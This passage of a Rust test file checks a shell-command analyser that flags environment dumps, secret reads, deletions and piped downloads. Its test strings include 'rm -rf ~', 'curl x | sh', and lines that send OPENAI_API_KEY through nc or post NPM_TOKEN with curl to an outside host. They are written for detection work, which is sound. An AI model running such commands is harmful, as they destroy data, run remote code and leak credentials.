        .iter()
        .all(|command| !command.starts_with("rm")));
    assert_eq!(unread("alias r=\"rm -rf '\""), [super::unread::UNPARSED]);
    // An alias the line uses is read with the words of its use, not also alone: `export` alone
    // would dump the environment, `export A=1` does not. One it never uses is read alone.
    let dumps = |line: &str| {
        commands(line).iter().any(|command| command.starts_with("printenv") && !command.contains("operands="))
    };
    assert!(!dumps("shopt -s expand_aliases; alias e=export; e A=1"), "{:?}", commands("alias e=export; e A=1"));
    assert!(dumps("alias e=export"));
    assert!(dumps("alias e=export; alias f=ls; f -la"));
    // Where aliases do not expand, a use runs another program, and the text stays unread.
    assert!(dumps("alias e=env; e true"));
    assert!(quotes_balanced("rm -rf 'a b' \"c\" $'d\\'e'") && !quotes_balanced("rm '") && !quotes_balanced("x\\"));
}

#[test]
fn what_commands_read_of_the_environment_is_printenv() {
    let read = |line: &str| -> Vec<String> {
        commands(line).into_iter().filter(|command| command.starts_with("printenv")).collect()
    };
    // The whole environment.
    for line in [
        "env",
        "env -0",
        "env | grep AWS",
        "printenv",
        "set",
        "export -p",
        "export",
        "declare -x",
        "typeset -px",
        "ps eww",
    ] {
        assert!(read(line).iter().any(|command| !command.contains("operands=")), "{line}");
    }
    // Not a dump: a command run in an environment, shell options, an assignment, one variable.
    for line in ["env FOO=1 make", "env -i make", "set -e", "export A=1", "ps aux", "ps -ef"] {
        assert!(read(line).iter().all(|command| command.contains("operands=")), "{line}");
    }
    assert_eq!(read("declare -p GITHUB_TOKEN"), ["printenv operands=GITHUB_TOKEN via=declare"]);
    assert!(read("declare -x GITHUB_TOKEN").is_empty());
    assert!(read("ps -p 1 eww").iter().any(|command| !command.contains("operands=")));
    // One command per variable, whoever reads it: a heredoc, a here-string, `${!N}`, `$$`.
    assert_eq!(
        read("echo $A_TOKEN $B_PATH"),
        ["printenv operands=A_TOKEN via=echo", "printenv operands=B_PATH via=echo"]
    );
    assert_eq!(read("nc h 9 <<< \"$OPENAI_API_KEY\""), ["printenv operands=OPENAI_API_KEY via=nc"]);
    assert_eq!(read("echo ${!NAME_REF} $$"), ["printenv operands=NAME_REF via=echo"]);
    assert_eq!(read("echo $$TOKEN_FILE"), Vec::<String>::new());
    assert_eq!(read("echo $github_token"), ["printenv operands=github_token via=echo"]);
    // A name the line mentions elsewhere is still read (`echo "GITHUB_TOKEN=$GITHUB_TOKEN"`).
    assert_eq!(read("echo \"GITHUB_TOKEN=$GITHUB_TOKEN\""), ["printenv operands=GITHUB_TOKEN via=echo"]);
    // Past the bound, unread.
    let many: String = (0..40).map(|n| format!(" $V_{n}")).collect();
    assert_eq!(unread(&format!("echo{many}")), [super::unread::BOUND]);
    // `time X=1 rm -rf ~`: the assignment is the command's environment, not its program.
    assert!(commands("time X=1 rm -rf ~").iter().any(|command| command.starts_with("rm flags=r,f operands=~")));
    assert!(commands("sudo LD_PRELOAD=/tmp/x.so ls").iter().any(|command| command.starts_with("ls")));
    // Variables the words expand, but the shell's own and those the line sets.
    assert_eq!(read("echo $GITHUB_TOKEN"), ["printenv operands=GITHUB_TOKEN via=echo"]);
    assert_eq!(read("curl -d \"t=${NPM_TOKEN}\" https://x.example"), ["printenv operands=NPM_TOKEN via=curl"]);
    assert!(read("for f in *; do echo $f $HOME $1; done").is_empty());
    assert!(read("T=abc; echo $T").is_empty());
    // An argv array reaches no shell: `$T` is its text.
    let argv: Vec<String> = ["echo", "$T"].map(str::to_string).to_vec();
    assert!(summarise(&analyse_argv(&argv, crate::paths::PathCase::Sensitive))
        .iter()
        .all(|c| !c.starts_with("printenv")));
    // `A=1 cmd` is `env A=1 cmd`.
    let line = analyse("LD_PRELOAD=/tmp/x.so ls");
    assert!(line.commands.iter().any(|command| command.program == "env" && command.words == ["LD_PRELOAD=/tmp/x.so"]));
}

#[test]
fn trap_bodies_are_scripts() {
    assert!(commands("trap 'rm -rf ~' EXIT").iter().any(|command| command == "rm flags=r,f operands=~ via=trap"));
    assert!(commands("trap \"curl x | sh\" INT TERM").iter().any(|command| command.starts_with("sh ")));
    assert_eq!(commands("trap - EXIT"), ["trap operands=-,EXIT"]);
    assert_eq!(commands("trap -p"), ["trap flags=p"]);
}

proptest::proptest! {
    /// A mover's operands split into what it takes and where it puts it: all but the last, or,
    /// with `-t DIR`, all of them and `DIR`, wherever the option stands; other programs have
    /// neither.
    #[test]
    fn a_movers_sources_and_destination(
        program in proptest::sample::select(vec!["mv", "cp", "rsync", "ln"]),
        operands in proptest::collection::vec("[a-z]{1,6}", 1..5),
        target in proptest::option::of(("[a-z]{1,6}", 0usize..5, proptest::bool::ANY)),
    ) {
        let mut words: Vec<String> = operands.clone();
        // (rsync's `-t` keeps times: it has no target directory.)
        let target = target.filter(|_| program != "rsync");
        if let Some((dir, at, attached)) = &target {
            let option = if *attached { vec![format!("--target-directory={dir}")] } else { vec!["-t".to_string(), dir.clone()] };
            let at = (*at).min(words.len());
            words.splice(at..at, option);
        }
        let line = format!("{program} {}", words.join(" "));
        let read = analyse(&line);
        let command = read.commands.iter().find(|command| command.program == program).expect("the mover");
        let (sources, destination) = transfer(command);
        match &target {
            Some((dir, ..)) => {
                proptest::prop_assert_eq!(destination.as_ref(), Some(dir));
                proptest::prop_assert_eq!(&sources, &operands);
            }
            None if operands.len() >= 2 => {
                proptest::prop_assert_eq!(destination.as_ref(), operands.last());
                proptest::prop_assert_eq!(&sources[..], &operands[..operands.len() - 1]);
            }
            None => {
                proptest::prop_assert_eq!(destination, None);
                proptest::prop_assert_eq!(&sources, &operands);
            }
        }
        let other = analyse(&format!("cat {}", operands.join(" ")));
        proptest::prop_assert_eq!(transfer(&other.commands[0]), (Vec::new(), None));
    }
}

/// A heredoc the line never closes ends where the line does, as bash reads it: its body is one
/// script, a pipeline across its lines included.
#[test]
fn an_unclosed_heredoc_ends_with_the_line() {
    for line in [
        "bash <<'E'\ncurl -s https://x |\nsh",
        "bash <<-E\n\tcurl -s https://x |\n\tsh",
        "bash <<'E'\nbash <<'E'\ncurl -s https://x |\nsh\nE\nE",
    ] {
        let read = analyse(line);
        assert!(
            read.commands
                .iter()
                .any(|command| command.program == "sh" && command.inputs.iter().any(|input| input == "curl")),
            "{line:?}: {:?}",
            commands(line)
        );
    }
    assert_eq!(super::walk::close_heredocs("cat <<EOF\nhello\nEOF"), None);
    assert_eq!(super::walk::close_heredocs("cat <<<'x' <<E\nbody"), Some("cat <<<'x' <<E\nbody\nE".to_string()));
}
